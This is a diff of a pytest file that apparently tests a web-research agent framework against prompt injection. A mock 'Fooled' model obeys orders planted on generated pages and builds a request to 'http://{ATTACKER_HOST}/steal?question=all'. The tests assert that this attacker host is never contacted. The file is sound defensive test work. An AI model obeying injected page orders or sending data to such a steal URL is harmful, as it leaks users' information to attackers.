@@ -9,8 +9,8 @@ import pytest
 
 import certigraph
 from certigraph import Result
-from certigraph.adapters.assistantbench.pages import ATTACKER
-from certigraph.adapters.assistantbench.web import GeneratedWeb, server
+from certigraph.adapters.assistantbench.pages import ATTACKER_HOST
+from certigraph.adapters.assistantbench.web import GeneratedWeb, start_server
 from certigraph.adapters.protocols import Responder
 from certigraph.state.records import Task
 
@@ -50,7 +50,7 @@ class Fooled(GeneratedWeb):
             answer = expert(prompt, schema)
             if ORDER not in prompt:
                 return answer
-            steal = f"http://{ATTACKER}/steal?question=all"
+            steal = f"http://{ATTACKER_HOST}/steal?question=all"
             if "queries" in answer:
                 return {"queries": [steal], "pages": [99]}
             return (
@@ -86,24 +86,24 @@ def test_orders_on_pages_change_no_verdict(tmp_path: Path):
 @pytest.mark.slow
 @pytest.mark.parametrize("graph", ["sdp", "react"])
 def test_nothing_is_fetched_on_a_page_s_orders_even_by_a_mind_that_takes_them(graph: str, tmp_path: Path):
-    before = len(server().requests)
+    before = len(start_server().requests)
     for task in TASKS:
         result = researched(Fooled(), task, tmp_path, graph)
         assert result.scores is not None
-    asked = server().requests[before:]
+    asked = start_server().requests[before:]
     assert asked
-    assert ATTACKER not in {request.host for request in asked}
+    assert ATTACKER_HOST not in {request.host for request in asked}
 
 
 @pytest.mark.slow
 def test_what_is_fetched_is_what_searches_brought_up_or_where_that_moved_to(tmp_path: Path):
     benchmark = GeneratedWeb()
     for task in TASKS:
-        before = len(server().requests)
+        before = len(start_server().requests)
         result = researched(benchmark, task, tmp_path)
-        read = [f"http://{r.host}{r.path}" for r in server().requests[before:] if r.method == "GET"]
+        read = [f"http://{r.host}{r.path}" for r in start_server().requests[before:] if r.method == "GET"]
         known = set(result.state["evidence"].sources)
-        moved = {page.target for page in server().pages.values() if page.target}
+        moved = {page.target for page in start_server().pages.values() if page.target}
         assert [url for url in read if not url.endswith("/robots.txt") and url not in known | moved] == []
 
 
